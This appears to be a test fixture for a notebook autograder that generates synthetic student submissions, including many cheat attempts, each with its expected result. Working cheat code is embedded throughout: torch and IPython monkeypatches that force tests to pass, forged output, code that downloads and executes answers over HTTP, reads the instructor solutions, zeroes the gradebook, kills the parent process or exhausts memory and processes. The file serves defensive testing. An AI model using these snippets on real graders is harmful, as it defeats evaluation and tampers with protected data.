"""A generated class: honest, partial and broken submissions, and every cheat the grader must
defeat, each with the exact outcome expected (which test cells score zero, which flags are raised,
or why the submission is not graded).

Cheats are appended to (or replace) the answer cells of a correct submission, so that whatever they
attack is the only thing that can cost points.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from autograder.synthetic import solution_code, submission, write_submission
from tests.mutants import MUTANTS

GAN = "gan_theory"
GAN_TESTS = ["test_optimal_discriminator", "test_js_divergence", "test_discriminator_loss", "test_generator_loss"]
GAN_ANSWERS = ["optimal_discriminator", "js_divergence", "discriminator_loss", "generator_loss"]

HONEST_WARNINGS = '''
import warnings
warnings.warn("a warning from the student's code")
_leaf = torch.ones(1, requires_grad=True)
float(_leaf * 2)     # PyTorch's own UserWarning: converting a tensor that requires grad
'''
#: Tampering that a student who studied the grader might try (issue 12's classes 1-7), each added
#: to wrong answers: name -> (code, flags that must be raised, flags that may be raised).
V2_CHEATS = {
    "probe-dodger": ('''
import torch
_real = torch.allclose
def _patch(*args, **kwargs):
    torch.allclose = lambda *a, **k: True
def _restore(*args, **kwargs):
    torch.allclose = _real
get_ipython().events.register("pre_run_cell", _patch)
get_ipython().events.register("post_run_cell", _restore)
''', {"tampering"}, set()),
    "class-level-patches": ('''
import torch
torch.Tensor.__bool__ = lambda self: True
torch.Tensor.__lt__ = lambda self, other: torch.tensor(True)
torch.Tensor.__gt__ = lambda self, other: torch.tensor(True)
torch.isfinite = lambda x: torch.tensor(True)
torch.isclose = lambda *a, **k: torch.tensor(True)
''', {"tampering"}, set()),
    "lying-function-mode": ('''
import torch
from torch.overrides import TorchFunctionMode
class _Yes(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal):
            return True
        if func in (torch.isclose, torch.isfinite):
            return torch.tensor(True)
        return func(*args, **(kwargs or {}))
_Yes().__enter__()
''', set(), {"tampering"}),
    "lying-subclass": ('''
import torch
class _Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal):
            return True
        return super().__torch_function__(func, types, args, kwargs)
_wrapped = optimal_discriminator
def optimal_discriminator(p_data, p_g):
    return _wrapped(p_data, p_g).as_subclass(_Liar)
''', set(), {"tampering"}),
    "proxy-module": ('''
import sys, types, torch as _torch
class _Proxy(types.ModuleType):
    def __getattr__(self, name):
        if name in ("allclose", "equal"):
            return lambda *a, **k: True
        return getattr(_torch, name)
sys.modules["torch"] = _Proxy("torch")
torch = sys.modules["torch"]
''', set(), {"tampering"}),
    "shadow-grader-names": ('''
def compile(*a, **k):
    raise SystemError("no")
exec = eval = getattr = compile
''', set(), {"tampering"}),
    "code-swap": ('''
def _liar(p_data, p_g):
    return p_data * 0 + 0.5
def _swap(*args, **kwargs):
    optimal_discriminator.__code__ = _liar.__code__
get_ipython().events.register("pre_run_cell", _swap)
''', {"tampering"}, set()),
    "forged-answers": ('''
_formatter = get_ipython().display_formatter.formatters["text/plain"]
_formatter.for_type(str, lambda text, printer, cycle: printer.text(repr('{"ok": true, "value": true}')))
''', set(), {"tampering"}),
}


@dataclass
class Student:
    name: str
    assignment: str
    zero: set[str] = field(default_factory=set)        # test cells that must score 0 (all others full)
    flags: set[str] = field(default_factory=set)       # flag kinds that must be in the summary ...
    optional: set[str] = field(default_factory=set)    # ... and those that may be (no others)
    error: str | None = None                           # substring of the reason when not graded
    note: str = ""                                     # what the student tried


def _append(cell: str, code: str, assignment: str = GAN) -> dict[str, str]:
    answers = solution_code(assignment)
    answers[cell] = answers[cell] + "\n" + code.strip() + "\n"
    return answers


def _cells_by_id(nb) -> dict[str, int]:
    return {c.metadata.get("nbgrader", {}).get("grade_id"): i for i, c in enumerate(nb.cells)}


def build_class(folder: Path, server_url: str, secrets: dict[str, str]) -> list[Student]:
    """Write the class into ``folder`` (``<student>/<assignment>/<notebook>.ipynb``).

    Args:
        server_url: an HTTP address on this machine serving the solution code (``/answer.py``),
            which a cheat tries to download.
        secrets: paths the kernels must not read or write (``solutions``, ``gradebook``,
            ``victim_file``).
    """
    students: list[Student] = []

    def add(student: Student, nb) -> None:
        write_submission(nb, folder, student.name, student.assignment)
        students.append(student)

    # ---- honest work, partial work, plausible mistakes
    for i in range(3):
        add(Student(f"honest-{i}", GAN), submission(GAN))
    for name in ("autoencoders", "vae"):
        add(Student(f"honest-{name}", name), submission(name))
    add(Student("blank", GAN, zero=set(GAN_TESTS), note="handed in the release untouched"), submission(GAN, answers={}))
    partial = solution_code(GAN)
    del partial["generator_loss"]
    add(Student("partial", GAN, zero={"test_generator_loss"}, note="left one answer as the stub"),
        submission(GAN, partial))
    for mutant in MUTANTS[GAN][:2] + MUTANTS["autoencoders"][:1]:
        answers = solution_code(mutant_assignment(mutant))
        answers.update(mutant.answers())
        add(Student(f"mistake-{mutant.name}", mutant_assignment(mutant), zero=mutant.losses()),
            submission(mutant_assignment(mutant), answers))
    late = Student("late", GAN, note="handed in after the deadline (nbgrader's timestamp.txt)")
    add(late, submission(GAN))
    (folder / late.name / GAN / "timestamp.txt").write_text("2026-11-21 10:00:00")
    extra = Student("extra-files", GAN, note="notebook plus unrelated files")
    add(extra, submission(GAN))
    (folder / extra.name / GAN / "scratch.csv").write_text("a,b\n1,2\n")

    # ---- broken files
    broken = {"corrupt": ('{"cells": [ broken', "not valid notebook JSON"),
              "empty": ("", "is empty"),
              "not-a-notebook": ('{"hello": "world"}', "not a Jupyter notebook"),
              "nbformat-3": (json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": []}),
                             "version 3 notebook")}
    for name, (text, reason) in broken.items():
        add(Student(name, GAN, error=reason), submission(GAN))
        (folder / name / GAN / f"{GAN}.ipynb").write_text(text)
    huge = submission(GAN)
    huge.cells[0].setdefault("attachments", {})["blob.png"] = {"image/png": "A" * (26 * 2**20)}
    add(Student("huge-file", GAN, error="more than the 25 MB"), huge)
    add(Student("wrong-name", GAN, error="no notebook named gan_theory.ipynb"), submission(GAN))
    (folder / "wrong-name" / GAN / f"{GAN}.ipynb").rename(folder / "wrong-name" / GAN / "my_work.ipynb")
    add(Student("wrong-assignment", GAN, error="belongs to the assignment 'vae'", flags={"wrong-assignment"}),
        submission("vae"))

    # ---- honest code the grader must never punish: full marks, no flag
    honest_extras = {
        "honest-star-imports": ("from numpy import *\nfrom torch import *\nimport torch", "optimal_discriminator"),
        "honest-logging": ("import logging\nlogging.getLogger('mine').warning('computing the JSD')", "js_divergence"),
        "honest-warnings": (HONEST_WARNINGS, "discriminator_loss"),
        "honest-tqdm": ("from tqdm.auto import tqdm\nfor _ in tqdm(range(50)):\n    pass", "generator_loss"),
        "honest-prints": ("for i in range(2000):\n    print('step', i, 'loss', 0.5)", "js_divergence"),
        "honest-magic": ("%time _ = sum(range(1000))", "optimal_discriminator"),
        "honest-shadows-names": ("compile = exec = eval = getattr = json = None  # names a grader might use",
                                 "generator_loss"),
    }
    for name, (code, cell) in honest_extras.items():
        add(Student(name, GAN, note="honest code"), submission(GAN, _append(cell, code)))
    nb = submission(GAN)
    nb.cells.insert(_cells_by_id(nb)["js_divergence"], nbformat.v4.new_code_cell("def _halve(x):\n    return 0.5 * x\n"))
    nb.cells.insert(1, nbformat.v4.new_markdown_cell("My notes: an extra cell."))
    add(Student("honest-extra-cells", GAN, note="extra cells and a helper in another cell"), nb)
    checkpoints = Student("honest-checkpoints", GAN, note="a .ipynb_checkpoints folder beside the notebook")
    add(checkpoints, submission(GAN))
    junk = folder / checkpoints.name / GAN / ".ipynb_checkpoints"
    junk.mkdir()
    write_submission(submission(GAN, answers={}), junk, "x", GAN).rename(junk / f"{GAN}-checkpoint.ipynb")

    # ---- cheats: wrong answers (each loses its test) plus tampering that would make the tests pass
    # inside the kernel; verdicts are decided in the grader's process, so they still lose.
    everything = set(GAN_TESTS)
    wrong = solution_code(GAN)
    for test in GAN_TESTS:
        wrong.update(next(m for m in MUTANTS[GAN] if m.losses() == {test}).answers())
    for name, (code, flags, optional) in V2_CHEATS.items():
        answers = dict(wrong)
        answers["optimal_discriminator"] = answers["optimal_discriminator"] + "\n" + code.strip() + "\n"
        add(Student(name, GAN, zero=everything, flags=set(flags), optional=set(optional)), submission(GAN, answers))

    # ---- older cheats on the grading machinery, with correct answers: nothing to gain, flagged for review
    for_review: set[str] = set()
    cheats = {
        "patch-allclose": "import torch\ntorch.allclose = lambda *a, **k: True",
        "patch-numpy-testing": "import numpy.testing\nnumpy.testing.assert_allclose = lambda *a, **k: None",
        "patch-builtin": "import builtins\nbuiltins.abs = lambda x: 0.0",
        "shadow-abs": "abs = lambda x: 0.0",
        "ast-strip-asserts": '''
import ast
class _Quiet(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(_Quiet())''',
        "input-transformer": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
        "custom-exception": "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)",
        "no-traceback": "get_ipython().showtraceback = lambda *a, **k: None",
        "event-hook": "get_ipython().events.register('pre_run_cell', lambda *a, **k: None)",
    }
    for name, code in cheats.items():
        # Emptying every later cell also empties the later answers: those tests fail like blank ones.
        zero = set(GAN_TESTS[1:]) if name == "input-transformer" else for_review
        add(Student(name, GAN, zero=zero, flags={"tampering"}),
            submission(GAN, _append("optimal_discriminator", code)))

    # cheats that stop the kernel in the third answer cell: the first two tests keep their points
    late = {"test_discriminator_loss", "test_generator_loss"}
    for name, code, kind in (("os-exit", "import os\nos._exit(0)", "exit"),
                             ("ipython-exit", "exit()", "exit"),
                             ("segfault", "import ctypes\nctypes.string_at(0)", "exit")):
        add(Student(name, GAN, zero=late, flags={kind}), submission(GAN, _append("discriminator_loss", code)))
    add(Student("kill-parent", GAN, note="tries to kill the grader: its process namespace has no parent to see"),
        submission(GAN, _append("discriminator_loss", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)")))
    add(Student("stuck-loop", GAN, zero=late, flags={"time"}, note="loop that swallows the interrupt"),
        submission(GAN, _append("discriminator_loss", '''
import time
while True:
    try:
        time.sleep(0.2)
    except KeyboardInterrupt:
        pass''')))
    add(Student("slow-loop", GAN, zero={"test_discriminator_loss"}, flags={"time"},
                note="an endless loop that the interrupt stops: only the test needing it fails"),
        submission(GAN, {**solution_code(GAN), "discriminator_loss": "while True:\n    pass\n"}))
    add(Student("memory-hog", GAN, zero=late, flags={"memory"}),
        submission(GAN, _append("discriminator_loss", "hog = b'x' * (3 * 2**30)")))
    add(Student("fork-bomb", GAN, zero=late, flags={"processes"}),
        submission(GAN, _append("discriminator_loss", '''
import subprocess
children = [subprocess.Popen(["sleep", "60"]) for _ in range(40)]
import time
time.sleep(2)''')))
    add(Student("fake-output", GAN, zero=MUTANTS[GAN][0].losses(), flags={"fake-output"}),
        submission(GAN, {**solution_code(GAN), **{k: v + '\nprint("All tests passed! 8/8 points")\n'
                                                   for k, v in MUTANTS[GAN][0].answers().items()}}))
    add(Student("huge-output", GAN, flags={"output"}),
        submission(GAN, _append("optimal_discriminator", "print('x' * 5_000_000)")))

    # ---- cheats on the notebook file
    nb = submission(GAN)
    nb.cells[_cells_by_id(nb)["test_js_divergence"]].source = "pass\n"
    add(Student("edit-test", GAN, zero={"test_js_divergence"}, flags={"edited"}), nb)
    nb = submission(GAN)
    del nb.cells[_cells_by_id(nb)["test_discriminator_loss"]]
    add(Student("delete-test", GAN, zero={"test_discriminator_loss"}, flags={"deleted"}), nb)
    nb = submission(GAN)
    index = _cells_by_id(nb)["test_generator_loss"]
    nb.cells[index] = nbformat.v4.new_code_cell(nb.cells[index].source)
    add(Student("retype-plain", GAN, zero={"test_generator_loss"}, flags={"retyped"}), nb)
    nb = submission(GAN)
    index = _cells_by_id(nb)["test_generator_loss"]
    copy_cell = nbformat.v4.new_code_cell(nb.cells[index].source)
    copy_cell.metadata = copy.deepcopy(nb.cells[index].metadata)
    nb.cells[index] = copy_cell
    add(Student("retype-with-metadata", GAN, zero={"test_generator_loss"}, flags={"retyped"}), nb)
    nb = submission(GAN)
    nb.cells[_cells_by_id(nb)["test_optimal_discriminator"]].metadata["nbgrader"]["points"] = 100
    add(Student("metadata-points", GAN, zero={"test_optimal_discriminator"}, flags={"metadata"}), nb)
    nb = submission(GAN)
    meta = nb.cells[_cells_by_id(nb)["test_js_divergence"]].metadata["nbgrader"]
    meta["grade"], meta["locked"] = False, False
    add(Student("metadata-ungraded", GAN, zero={"test_js_divergence"}, flags={"metadata"}), nb)
    nb = submission(GAN)
    index = _cells_by_id(nb)["test_discriminator_loss"]
    nb.cells[index] = nbformat.v4.new_markdown_cell(nb.cells[index].source, metadata=nb.cells[index].metadata)
    add(Student("test-to-markdown", GAN, zero={"test_discriminator_loss"}, flags={"metadata"}), nb)

    # ---- cheats on the sandbox: read solutions, download answers, write where they must not
    reach = '''
import json, urllib.request
try:
    exec(urllib.request.urlopen("{url}/answer.py", timeout=5).read().decode())
except OSError:
    pass'''
    no_answers = {k: "" for k in GAN_ANSWERS}
    add(Student("download-answers", GAN, zero=everything, note="fetches the answers over the network"),
        submission(GAN, {**no_answers, "optimal_discriminator": reach.format(url=server_url)}))
    steal = '''
import json, pathlib
try:
    source = json.loads(pathlib.Path({path!r}).read_text())
    for cell in source["cells"]:
        if cell["metadata"].get("nbgrader", {{}}).get("solution"):
            exec("".join(cell["source"]).replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
except (OSError, ValueError):
    pass'''
    add(Student("read-solutions", GAN, zero=everything, note="reads the instructor notebook"),
        submission(GAN, {**no_answers, "optimal_discriminator": steal.format(path=secrets["solutions"])}))
    add(Student("read-solutions-copy", GAN, zero=everything,
                note="reads a copy of the instructor notebook kept outside the course folder"),
        submission(GAN, {**no_answers, "optimal_discriminator": steal.format(path=secrets["solutions_copy"])}))
    add(Student("memfd-hog", GAN, zero=late, flags={"memory"}, note="holds memory outside its resident set"),
        submission(GAN, _append("discriminator_loss", '''
import os
_fd = os.memfd_create("hog")
for _ in range(24):
    os.write(_fd, b"x" * 2**26)''')))
    vandal = f'''
import sqlite3, pathlib
for action in (lambda: sqlite3.connect({secrets["gradebook"]!r}).execute("update grade set manual_score = 0").connection.commit(),
               lambda: pathlib.Path({secrets["victim_file"]!r}).write_text("vandalised")):
    try:
        action()
    except Exception:
        pass'''
    add(Student("vandal", GAN, note="tries to zero the gradebook and overwrite a course file"),
        submission(GAN, _append("optimal_discriminator", vandal)))
    return students


def mutant_assignment(mutant) -> str:
    return next(name for name, group in MUTANTS.items() if mutant in group)
